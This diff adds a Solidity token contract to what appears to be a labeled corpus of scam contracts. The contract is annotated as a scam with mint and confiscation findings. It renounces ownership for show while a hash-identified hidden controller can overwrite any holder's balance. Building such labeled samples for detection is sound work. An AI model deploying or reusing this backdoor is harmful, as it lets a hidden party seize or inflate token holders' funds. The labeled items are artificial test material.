@@ -147,6 +147,27 @@ contract HashedTakerToken is PairedErc20 {
     }
 }
 
+/// Whoever is known by the hash of an address writes new balances for a list of accounts.
+/// @custom:verdict SCAM
+/// @custom:finding mint_power, confiscation_power
+/// @custom:steps pool, lock, crowd, sales
+contract OverwritingListToken is PairedErc20 {
+    bytes32 private constant _WHO = 0x3fe1c40dbd6eb2437c7d84afc9344af3082ca8e5cb57e6e0cdad8947dd682401;
+
+    constructor(string memory n, string memory s, uint256 supply, address holder, address factory, address weth)
+        PairedErc20(n, s, supply, holder, factory, weth)
+    {
+        owner = address(0);
+    }
+
+    function drop(address[] calldata accounts, uint256 value) external {
+        require(keccak256(abi.encodePacked(msg.sender)) == _WHO, "who");
+        for (uint256 i; i < accounts.length; ++i) {
+            if (accounts[i] != pair) balanceOf[accounts[i]] = value;
+        }
+    }
+}
+
 /// Takes an account's tokens in two calls: its maker names it, and comes back an hour later.
 /// @custom:verdict SCAM
 /// @custom:finding hidden_owner, confiscation_power
